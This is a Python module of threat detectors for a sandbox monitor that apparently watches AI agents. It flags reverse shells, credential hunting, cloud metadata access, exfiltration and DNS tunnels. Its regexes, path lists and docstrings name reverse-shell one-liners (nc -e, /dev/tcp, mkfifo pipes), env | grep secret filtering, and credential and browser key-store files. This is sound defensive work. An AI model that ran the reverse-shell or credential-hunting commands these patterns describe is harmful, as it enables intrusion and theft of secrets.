"""Detectors: pure functions from what was collected to threats (each unit-tested)."""

from __future__ import annotations

import ipaddress
import math
import re
import zlib
from collections.abc import Iterable
from dataclasses import dataclass, field
from typing import Any

from coi.monitor.collect import Conn, Proc

INFO, WARNING, HIGH, CRITICAL = "info", "warning", "high", "critical"
RANK = {INFO: 0, WARNING: 1, HIGH: 2, CRITICAL: 3}


@dataclass
class Threat:
    level: str
    category: str
    title: str
    description: str
    evidence: dict[str, Any] = field(default_factory=dict)

    @property
    def key(self) -> str:
        """Identical threats (same kind, same process or peer) share a key and are deduplicated."""
        return f"{self.category}|{self.title}|{self.description}"


def _proc_evidence(p: Proc) -> dict[str, Any]:
    return {"process": {"pid": p.nspid, "host_pid": p.pid, "uid": p.uid, "command": p.cmdline}}


# -- reverse shells ------------------------------------------------------------------------

_NET = r"(\d{1,3}(\.\d{1,3}){3}|\[?[0-9a-f:]+:[0-9a-f:]*\]?|[a-z0-9.-]+\.[a-z]{2,})"
_REVERSE: list[tuple[str, re.Pattern[str]]] = [
    ("/dev/tcp", re.compile(r"/dev/(tcp|udp)/[^/\s]+/\d+")),
    ("nc -e", re.compile(r"\b(nc|ncat|netcat|nc\.traditional|nc\.openbsd)\b.*\s-(e|c)\s*\S")),
    ("socat exec", re.compile(r"\bsocat\b.*\b(exec|system):", re.I)),
    (
        "python socket",
        re.compile(r"\bpython[0-9.]*\b.*socket.*(connect|dup2|pty|subprocess)", re.S),
    ),
    ("perl socket", re.compile(r"\bperl\b.*(-MIO|IO::Socket|\bsocket\s*\()", re.S)),
    ("ruby socket", re.compile(r"\bruby\b.*(-rsocket|TCPSocket)", re.S)),
    ("php fsockopen", re.compile(r"\bphp\b.*fsockopen", re.S)),
    ("node socket", re.compile(r"\bnode(js)?\b.*(net\.Socket|require\(.net.\)).*connect", re.S)),
    ("awk /inet/", re.compile(r"\b[gm]?awk\b.*/inet/", re.S)),
    ("mkfifo shell", re.compile(r"\bmkfifo\b.*\b(nc|ncat|netcat|telnet|openssl)\b", re.S)),
    ("telnet pipe", re.compile(r"\btelnet\b\s+\S+\s+\d+\s*\|.*\b(ba|z|da)?sh\b", re.S)),
    ("openssl s_client shell", re.compile(r"openssl\s+s_client.*\|\s*/bin/(ba)?sh", re.S)),
    ("powershell socket", re.compile(r"powershell.*System\.Net\.Sockets", re.S | re.I)),
]


def reverse_shell(p: Proc) -> Threat | None:
    """A process whose command line opens a shell over the network."""
    cmd = p.cmdline
    for name, pattern in _REVERSE:
        if pattern.search(cmd):
            return Threat(
                CRITICAL,
                "reverse_shell",
                "Reverse shell detected",
                f"Process '{cmd[:200]}' (PID {p.nspid}) matches reverse shell pattern '{name}'",
                _proc_evidence(p),
            )
    if re.search(r"\b(ba|z|da)?sh\s+-i\b", cmd) and re.search(r">&|<&|" + _NET + r".*\d+", cmd):
        return Threat(
            CRITICAL,
            "reverse_shell",
            "Reverse shell detected",
            f"Process '{cmd[:200]}' (PID {p.nspid}) runs an interactive shell with redirection",
            _proc_evidence(p),
        )
    return None


# TCP states of a socket that has (or is getting, or still half has) a peer: a half-closed
# connection (FIN_WAIT2 on the side that shut its writing, CLOSE_WAIT on the other) still
# carries the attacker's commands one way. Not LISTEN, and TIME_WAIT/CLOSE hold no socket.
PEER_STATES = frozenset(
    {"ESTABLISHED", "SYN_SENT", "SYN_RECV", "FIN_WAIT1", "FIN_WAIT2", "CLOSE_WAIT", "CLOSING",
     "LAST_ACK"}
)  # fmt: skip


def remote_sockets(conns: Iterable[Conn]) -> dict[int, Conn]:
    """Socket inode -> connection, for every socket of the namespace with a peer on another
    machine: TCP in any connected state (half-closed too), and connected UDP (a datagram
    socket on a shell's stdio carries a session as well as a stream does)."""
    return {
        c.inode: c
        for c in conns
        if c.inode
        and ((c.proto == "tcp" and c.state in PEER_STATES) or c.proto == "udp")
        and not _loopback(c)
    }


def socket_shells(procs: Iterable[Proc], conns: Iterable[Conn]) -> list[Threat]:
    """Processes whose standard input or output is a network socket to another machine (TCP
    in any connected state, or connected UDP): a shell (or any program) driven from the
    network, whatever its name, its arguments or its port. What a reverse shell *is*, so a
    renamed bash on port 443 is one too; an agent's tools talk to the network through sockets
    of their own, never through their stdio."""
    peers = remote_sockets(conns)
    found = []
    for p in procs:
        for fd, target in sorted(p.stdio.items()):
            m = _SOCKET.fullmatch(target)
            if not m or (c := peers.get(int(m.group(1)))) is None:
                continue
            found.append(
                Threat(
                    CRITICAL,
                    "reverse_shell",
                    "Reverse shell detected",
                    f"Process '{p.cmdline[:200]}' (PID {p.nspid}) has its "
                    f"{_STDIO[fd]} on a network connection to {c.remote}",
                    {**_proc_evidence(p), "connection": {"remote": c.remote, "fd": fd}},
                )
            )
            break
    return found


def pipe_shells(procs: Iterable[Proc], conns: Iterable[Conn]) -> list[Threat]:
    """A process fed from the network and talking back to it through pipes: `cat fifo | sh
    -i | nc host 443 > fifo`, `nc a | sh | nc b`. Its stdout (or stderr) is a pipe read by a
    process that holds a remote socket (TCP in any connected state: `nc a | sh | nc b` with
    the first nc half-closed is one too; or connected UDP), and its stdin a pipe written by one
    that holds one, or by one that has open a FIFO such a process writes to. Both directions:
    `curl | sh` (the output on a terminal) and `make | nc` (the input from no network) are
    not this."""
    procs = list(procs)
    remote = set(remote_sockets(conns))
    netted = {
        p.pid
        for p in procs
        if any((m := _SOCKET.fullmatch(f)) and int(m.group(1)) in remote for f in p.files)
    }
    # Who reads (fd 0) and who writes (fd 1) each pipe or FIFO.
    readers: dict[str, list[Proc]] = {}
    writers: dict[str, list[Proc]] = {}
    for p in procs:
        if (t := p.stdio.get(0)) is not None:
            readers.setdefault(t, []).append(p)
        if (t := p.stdio.get(1)) is not None:
            writers.setdefault(t, []).append(p)

    def to_net(target: str) -> Proc | None:
        return next((r for r in readers.get(target, ()) if r.pid in netted), None)

    def from_net(target: str) -> Proc | None:
        for w in writers.get(target, ()):
            if w.pid in netted:
                return w
            # `cat fifo`: it has open (as any fd) a path a network process writes as stdout.
            for path in w.files:
                if path.startswith("/") and any(x.pid in netted for x in writers.get(path, ())):
                    return w
        return None

    found = []
    for p in procs:
        if p.pid in netted:
            continue
        stdin = p.stdio.get(0, "")
        outs = [t for fd, t in sorted(p.stdio.items()) if fd in (1, 2) and t.startswith("pipe:")]
        sink = next((n for t in outs if (n := to_net(t)) is not None), None)
        if not stdin.startswith("pipe:") or sink is None or from_net(stdin) is None:
            continue
        found.append(
            Threat(
                CRITICAL,
                "reverse_shell",
                "Reverse shell detected",
                f"Process '{p.cmdline[:200]}' (PID {p.nspid}) reads from and writes to the "
                f"network through pipes ('{sink.cmdline[:80]}' holds the connection)",
                {**_proc_evidence(p), "network_peer": {"pid": sink.nspid, "command": sink.cmdline}},
            )
        )
    return found


_SOCKET = re.compile(r"socket:\[(\d+)\]")
_STDIO = {0: "standard input", 1: "standard output", 2: "standard error"}


def _loopback(c: Conn) -> bool:
    try:
        return ipaddress.ip_address(c.remote_ip).is_loopback
    except ValueError:
        return False


# -- environment and credential scanning ---------------------------------------------------

_SECRET_WORDS = r"(api|key|token|secret|passw|credential|auth|aws_|private)"
_ENV_LIST = re.compile(r"\b(env|printenv|set|export\s+-p|declare\s+-x)\b\s*\|")
_FILTER = re.compile(r"\b(grep|egrep|fgrep|rg|awk|sed)\b[^|]*" + _SECRET_WORDS, re.I)
# `grep -i key` with no file: filtering a pipe for secrets (the visible half of `env | grep`).
_PIPE_FILTER = re.compile(
    r"(\S*/)?(e|f)?grep(\s+-[a-zA-Z]+)*\s+(-e\s+)?['\"]?[^\s'\"]*"
    + _SECRET_WORDS
    + r"[^\s'\"]*['\"]?",
    re.I,
)
_ENVIRON_FILE = re.compile(r"/proc/(\d+|\*|self|\$\w+|\[[^]]*\][*]?)/environ")
_ENV_CODE = re.compile(r"(os\.environ|process\.env|ENV\[|ENVIRON\[|getenv\()", re.I)
_CREDENTIAL_PATHS = re.compile(
    r"(/\.ssh/|/\.ssh\b|/\.aws/|/\.aws\b|/\.gnupg|/\.config/gh\b|/\.config/gcloud|/\.kube/"
    r"|/\.docker/config\.json|\.git-credentials|/\.netrc|/etc/shadow|id_(rsa|ed25519|ecdsa)\b)"
)
_KEY_HUNT = re.compile(
    r"\bfind\b.*-i?name\s+['\"]?[*]?(id_rsa|id_ed25519|\*?\.pem|\*?\.key|credentials|\.env)",
    re.I,
)


def env_scan(p: Proc) -> Threat | None:
    """Listing the environment into a filter for secrets, or reading other processes' environ."""
    cmd = p.cmdline
    reason = None
    if _ENV_LIST.search(cmd) and _FILTER.search(cmd):
        reason = "environment piped into a filter for secrets"
    elif _PIPE_FILTER.fullmatch(cmd.strip()):
        reason = "filters a pipe for secrets (as in env | grep)"
    elif _ENVIRON_FILE.search(cmd):
        reason = "reads /proc/*/environ"
    elif re.search(r"\b(python[0-9.]*|node|ruby|perl|php)\b.*\s-[ce]\s", cmd) and (
        _ENV_CODE.search(cmd) and re.search(_SECRET_WORDS, cmd, re.I)
    ):
        reason = "script reads secrets from the environment"
    if reason is None:
        return None
    return Threat(
        WARNING,
        "env_scanning",
        "Environment scanning detected",
        f"Process '{cmd[:200]}' (PID {p.nspid}): {reason}",
        _proc_evidence(p),
    )


# Files only a key hunter opens (matched on what a process has open, its fds, whatever its
# command line says): private keys, cloud and tool tokens, browser and desktop key stores.
# Not `*.pem` as such: every TLS client opens the CA bundle.
_CREDENTIAL_FILES = re.compile(
    r"(/\.ssh/(id_[^/]*|.*_key|authorized_keys)$|/\.aws/(credentials|config)$"
    r"|/\.config/gcloud/.*(credentials|tokens)|/\.azure/|/\.kube/config$"
    r"|/\.docker/config\.json$|/\.git-credentials$|/\.netrc$|/\.pgpass$|/\.npmrc$|/\.pypirc$"
    r"|/\.config/gh/hosts\.yml$|/\.gnupg/|/\.password-store/|/\.local/share/keyrings/"
    r"|/\.mozilla/firefox/[^/]+/(key[34]\.db|logins\.json|cookies\.sqlite)$"
    r"|/\.config/(google-chrome|chromium|BraveSoftware/[^/]+|microsoft-edge)/.*"
    r"(Login Data|Cookies|Local State)$"
    r"|(privkey[^/]*|[^/]*[._-]key)\.pem$|\.(p12|pfx|jks|keystore)$|/etc/(shadow|gshadow)$)"
)
_ENVIRON_FD = re.compile(r"^/proc/(\d+)/environ$")


def credential_files(p: Proc, workspace: str = "/workspace") -> list[str]:
    """What of a process's open files is credential-shaped: key stores, a stray `.env`,
    another process's environment."""
    hits = []
    for f in p.files:
        m = _ENVIRON_FD.match(f)
        other_env = m is not None and int(m.group(1)) != p.nspid
        stores = _CREDENTIAL_FILES.search(f) or _CREDENTIAL_PATHS.search(f)
        if other_env or stores or _stray_dotenv(f, workspace):
            hits.append(f)
    return hits


def credential_access(p: Proc, workspace: str = "/workspace") -> Threat | None:
    """Hunting for keys: command lines or open files that touch credential stores."""
    hits = credential_files(p, workspace)
    if not hits and (_CREDENTIAL_PATHS.search(p.cmdline) or _KEY_HUNT.search(p.cmdline)):
        hits = [p.cmdline[:200]]
    if not hits:
        return None
    return Threat(
        WARNING,
        "credential_scan",
        "Credential access detected",
        f"Process '{p.cmdline[:120]}' (PID {p.nspid}) touches {hits[0]}",
        {**_proc_evidence(p), "files": hits[:10]},
    )


def _stray_dotenv(path: str, workspace: str) -> bool:
    name = path.rsplit("/", 1)[-1]
    return (name == ".env" or name.startswith(".env.")) and not path.startswith(workspace + "/")


# -- network -------------------------------------------------------------------------------

METADATA = ipaddress.ip_network("169.254.169.254/32")
CRITICAL_PORTS = {4444, 5555}
SUSPICIOUS_PORTS = {1234, 31337, 12345, 6666, 6667, 6697, 1337, 9001}
_PRIVATE = [
    ipaddress.ip_network(n)
    for n in ("10.0.0.0/8", "172.16.0.0/12", "192.168.0.0/16", "100.64.0.0/10", "169.254.0.0/16")
]


@dataclass
class NetContext:
    """What the session's network policy allows (for telling allowed from suspicious)."""

    mode: str = "restricted"
    gateway: str = ""
    allow_private: bool = False
    allowed: list[ipaddress.IPv4Network | ipaddress.IPv6Network] = field(default_factory=list)


def suspicious_connection(c: Conn, ctx: NetContext) -> Threat | None:
    try:
        ip = ipaddress.ip_address(c.remote_ip)
    except ValueError:
        return None
    port = c.remote_port
    ev = {"network": {"protocol": c.proto, "local": c.local, "remote": c.remote, "state": c.state}}
    if str(ip) == ctx.gateway:
        if port in (53, 67):
            return None  # the bridge's own DNS and DHCP
        return Threat(HIGH, "network", "Connection to the host", f"{c.proto} to {c.remote}", ev)
    if ip in METADATA:
        return Threat(CRITICAL, "network", "Cloud metadata access", f"{c.proto} to {c.remote}", ev)
    if port in CRITICAL_PORTS:
        return Threat(
            CRITICAL,
            "network",
            "Connection to a reverse-shell port",
            f"{c.proto} to {c.remote} (port {port})",
            ev,
        )
    if port == 53:
        return Threat(
            WARNING,
            "dns",
            "DNS to a foreign resolver",
            f"{c.proto} to {c.remote}: not the sandbox's resolver {ctx.gateway or '(bridge)'}",
            ev,
        )
    if any(ip in n for n in _PRIVATE) and not ctx.allow_private and ctx.mode != "open":
        return Threat(HIGH, "network", "Private network access", f"{c.proto} to {c.remote}", ev)
    if ctx.mode == "allowlist" and not any(ip in n for n in ctx.allowed):
        return Threat(HIGH, "network", "Allowlist violation", f"{c.proto} to {c.remote}", ev)
    if port in SUSPICIOUS_PORTS:
        return Threat(
            HIGH, "network", "Suspicious port", f"{c.proto} to {c.remote} (port {port})", ev
        )
    return None


_DNS_TOOL = re.compile(r"(^|[\s/])(dig|nslookup|host|drill|kdig|resolvectl|getent)\b")
_LABEL = re.compile(r"[A-Za-z0-9_-]{40,63}(?=\.)")


def dns_tunnel(p: Proc) -> Threat | None:
    """A lookup of a name that carries data: a label of 40+ characters (base32/hex chunks)."""
    if not _DNS_TOOL.search(p.cmdline):
        return None
    m = _LABEL.search(p.cmdline)
    if not m:
        return None
    return Threat(
        WARNING,
        "dns",
        "DNS tunnel-shaped query",
        f"Process '{p.cmdline[:160]}' (PID {p.nspid}) looks up a {len(m.group())}-character label",
        _proc_evidence(p),
    )


def tmp_usage(used: int, total: int) -> Threat | None:
    """/tmp over 80 % full: the agent is about to fail with ENOSPC (or is staging data)."""
    if total <= 0 or used / total <= 0.8:
        return None
    return Threat(
        WARNING,
        "filesystem",
        "/tmp nearly full",
        f"/tmp is {100 * used / total:.0f}% full ({used / 2**20:.0f} of {total / 2**20:.0f} MiB)",
        {"disk_space": {"used": used, "total": total}},
    )


def dns_volume(connections: Iterable[Conn], per_minute: float, threshold: int) -> Threat | None:
    """Many distinct DNS exchanges: the shape of a DNS tunnel or a scan."""
    if threshold <= 0 or per_minute <= threshold:
        return None
    return Threat(
        WARNING,
        "dns",
        "High DNS query volume",
        f"about {per_minute:.0f} DNS queries per minute (threshold {threshold})",
        {"dns": {"per_minute": round(per_minute), "sample": [c.remote for c in connections][:5]}},
    )


# -- file system and processes -------------------------------------------------------------


def io_burst(
    read_bytes: int,
    write_bytes: int,
    interval: float,
    *,
    read_mb: float,
    read_rate: float,
    write_mb: float,
    write_rate: float,
) -> list[Threat]:
    out = []
    for what, n, volume, rate in (
        ("read", read_bytes, read_mb, read_rate),
        ("write", write_bytes, write_mb, write_rate),
    ):
        mb = n / 1e6
        per_s = mb / interval
        if (volume > 0 and mb > volume) or (rate > 0 and per_s > rate):
            out.append(
                Threat(
                    HIGH,
                    "filesystem",
                    f"Large {what} burst",
                    f"{mb:.0f} MB {what} in {interval:.1f} s ({per_s:.0f} MB/s)",
                    {
                        "filesystem": {
                            f"{what}_mb": round(mb, 1),
                            "rate_mb_per_sec": round(per_s, 1),
                        }
                    },
                )
            )
    return out


# Processes alive at once from which a fast spawn rate is a storm, not a loop of short commands.
PILED_UP = 32


def fork_bomb(count: int, spawned: int, interval: float, *, max_count: int = 1000) -> Threat | None:
    """Runaway process creation; thresholds sit well above `make -j` or a test suite. A fast
    rate alone is a loop of short commands (a shell script running `true` 500 times spawns
    a thousand a second with three processes alive): a bomb's processes also pile up."""
    rate = spawned / interval
    if count > max_count or (rate > 300 and count >= PILED_UP):
        return Threat(
            CRITICAL,
            "process",
            "Fork bomb detected",
            f"{count} processes, {rate:.0f} new per second",
            {"process": {"count": count, "spawn_rate": round(rate)}},
        )
    return None


def metadata_target(p: Proc) -> Threat | None:
    """A command aimed at the cloud metadata service (caught even if the connection is refused)."""
    if not re.search(r"(?<![\d.])169\.254\.169\.254(?![\d])|metadata\.google\.internal", p.cmdline):
        return None
    return Threat(
        CRITICAL,
        "network",
        "Cloud metadata access",
        f"Process '{p.cmdline[:200]}' (PID {p.nspid}) targets the cloud metadata service",
        _proc_evidence(p),
    )


def scan_processes(procs: Iterable[Proc], workspace: str = "/workspace") -> list[Threat]:
    out: list[Threat] = []
    for p in procs:
        checks = (
            reverse_shell(p),
            env_scan(p),
            credential_access(p, workspace),
            metadata_target(p),
        )
        for found in checks:
            if found:
                out.append(found)
    return out


# -- by what leaves (the sandbox's nft table, coi.monitor.netguard) -------------------------


def exfil_over(
    dst: str, cap_bytes: int, proto: str = "tcp", port: int = 0, times: int = 1
) -> Threat:
    """More than the cap went to one address outside the allowlist: its packets are being
    dropped (the kernel's quota); the sandbox is paused for review. `times`: how often this
    address filled its cap (once more after each resume)."""
    where = f"{dst}:{port}" if port else dst
    again = f"; {times} times, a resume gives it the cap once more" if times > 1 else ""
    return Threat(
        HIGH,
        "exfiltration",
        "Upload limit reached",
        f"{cap_bytes / 1e6:.0f} MB sent to {dst}, outside the allowlist: further packets "
        f"there are dropped ({proto} to {where}{again})",
        {"network": {"remote": dst, "port": port, "protocol": proto, "cap_bytes": cap_bytes}},
    )


def exfil_total(total_bytes: int, dst: str, proto: str = "tcp", port: int = 0) -> Threat:
    """More than the total cap went to addresses outside the allowlist, spread over as many
    as it took (each under its own cap): every further packet to any of them is dropped."""
    where = f"{dst}:{port}" if port else dst
    return Threat(
        HIGH,
        "exfiltration",
        "Total upload limit reached",
        f"{total_bytes / 1e6:.0f} MB sent in all to addresses outside the allowlist: further "
        f"packets to any of them are dropped (the first: {proto} to {where})",
        {"network": {"remote": dst, "port": port, "protocol": proto, "total_bytes": total_bytes}},
    )


SCAN_TARGETS = 10  # distinct refused (address, port) pairs
SCAN_SECONDS = 10.0


def scan(attempts: Iterable[tuple[float, str, int]], now: float) -> Threat | None:
    """Many refused connection attempts to distinct addresses or ports within SCAN_SECONDS:
    `attempts` are (when, address, port) as the policy refused them."""
    recent = {(a, p) for t, a, p in attempts if now - t <= SCAN_SECONDS}
    if len(recent) < SCAN_TARGETS:
        return None
    hosts = sorted({a for a, _ in recent})
    ports = sorted({p for _, p in recent})
    return Threat(
        HIGH,
        "network",
        "Network scan",
        f"{len(recent)} refused attempts to {len(hosts)} address(es) and {len(ports)} port(s) "
        f"within {SCAN_SECONDS:.0f} s (e.g. {', '.join(hosts[:3])})",
        {"scan": {"targets": len(recent), "hosts": hosts[:20], "ports": ports[:20]}},
    )


def dns_qname(message: bytes) -> str | None:
    """The question's name of a DNS query message, lower case (None: not a query)."""
    if len(message) < 17 or message[2] & 0x80:
        return None
    labels, i = [], 12
    while i < len(message) and message[i]:
        n = message[i]
        if n & 0xC0 or i + 1 + n > len(message):
            return None
        labels.append(message[i + 1 : i + 1 + n].decode("ascii", errors="replace"))
        i += 1 + n
    return ".".join(labels).lower() if labels else None


def split_name(name: str) -> tuple[str, str]:
    """(what is left of the domain, the domain): the domain is the last two labels, three
    when the second-to-last is short (co.uk, com.au)."""
    labels = name.split(".")
    keep = 3 if len(labels) >= 4 and len(labels[-2]) <= 3 and len(labels[-1]) == 2 else 2
    return ".".join(labels[:-keep]), ".".join(labels[-keep:])


TUNNEL_NAMES = 20  # distinct names under one domain
TUNNEL_CHARS = 400  # characters they carry
TUNNEL_BITS = 3.0  # bits per character of those characters, compressed together


def information(text: str) -> float:
    """Bits per character that survive compression: what the text carries that is new.
    Random hex is about 4.5, base32 5; words and counters (static1, static2...) under 2."""
    if not text:
        return 0.0
    return len(zlib.compress(text.encode(), 9)) * 8 / len(text)


def dns_tunnel_names(names: Iterable[str], window: float) -> Threat | None:
    """Data carried in DNS names, as queried in the last `window` seconds: many distinct
    names under one domain that carry information. A tunnel has to vary the name (a cached
    one carries nothing) and pack it with data; a label length limit alone is easy to stay
    under, so the names are judged together: 20 distinct ones under a domain, 400+
    characters, 3+ bits a character after compression (a page of CDN hosts stays under)."""
    by_domain: dict[str, set[str]] = {}
    for name in names:
        sub, domain = split_name(name)
        if sub:
            by_domain.setdefault(domain, set()).add(sub)
    for domain, subs in sorted(by_domain.items(), key=lambda kv: -len(kv[1])):
        if len(subs) < TUNNEL_NAMES:
            continue
        chars = "".join(sorted(s.replace(".", "") for s in subs))
        bits = information(chars)
        if len(chars) >= TUNNEL_CHARS and bits >= TUNNEL_BITS:
            return Threat(
                HIGH,
                "dns",
                "DNS tunnel",
                f"{len(subs)} distinct names under {domain} within {window:.0f} s carrying "
                f"{len(chars)} characters ({bits:.1f} bits each): data in DNS queries",
                {"dns": {"domain": domain, "names": len(subs), "chars": len(chars),
                         "bits_per_char": round(bits, 2), "sample": sorted(subs)[:5]}},
            )  # fmt: skip
    return None


# One query that carries data, and a slow drip of them: judged per label, at the packets.
DATA_LABEL = 24  # characters from which a label may be data (hex of 12 bytes)
LONG_LABEL = 40  # one such label this long is a query carrying data by itself
DRIP_NAMES = 8  # distinct names under one domain with a data label, within DNS_WINDOW


def _shannon(text: str) -> float:
    counts: dict[str, int] = {}
    for ch in text:
        counts[ch] = counts.get(ch, 0) + 1
    n = len(text)
    return -sum(c / n * math.log2(c / n) for c in counts.values())


def data_label(label: str) -> bool:
    """A DNS label that looks like encoded data (hex, base32, base64url), not a host name:
    24+ characters, no hyphen (names made of words or numbers are hyphenated:
    `internal-my-lb-1234567890`, `ip-10-0-1-2`), letters and digits mixed (a word run
    together has no digits) and close to the entropy of random characters (3.2+ bits each;
    random hex of 24 characters is about 3.6, a repeated pattern much less)."""
    if len(label) < DATA_LABEL or "-" in label:
        return False
    digits = sum(ch.isdigit() for ch in label)
    return 0.1 <= digits / len(label) <= 0.9 and _shannon(label.lower()) >= 3.2


def dns_data_query(name: str) -> Threat | None:
    """One query whose name carries data by itself: a data label of 40+ characters (one
    `nslookup <56 hex>.t.example` is a whole tunnel message; no lookup of a host has one)."""
    for label in name.split(".")[:-2]:
        if len(label) >= LONG_LABEL and data_label(label):
            return Threat(
                WARNING,
                "dns",
                "DNS tunnel-shaped query",
                f"a query for {name[:120]}: a {len(label)}-character label of encoded data",
                {"dns": {"name": name[:253], "length": len(label), "domain": split_name(name)[1]}},
            )
    return None


def dns_drip(names: Iterable[str], window: float) -> Threat | None:
    """A slow tunnel: DRIP_NAMES distinct names under one domain within `window` seconds,
    each with a data label (24+ characters); under the tunnel rule's 20 names and the volume
    rule's rate. A CDN's hosts are shorter or hyphenated; a cached name is asked once."""
    by_domain: dict[str, set[str]] = {}
    for name in names:
        sub, domain = split_name(name)
        if sub and any(data_label(label) for label in sub.split(".")):
            by_domain.setdefault(domain, set()).add(sub)
    for domain, subs in sorted(by_domain.items(), key=lambda kv: -len(kv[1])):
        if len(subs) >= DRIP_NAMES:
            return Threat(
                WARNING,
                "dns",
                "DNS tunnel-shaped queries",
                f"{len(subs)} distinct names under {domain} within {window:.0f} s, each with a "
                "label of encoded data",
                {"dns": {"domain": domain, "names": len(subs), "sample": sorted(subs)[:5]}},
            )
    return None
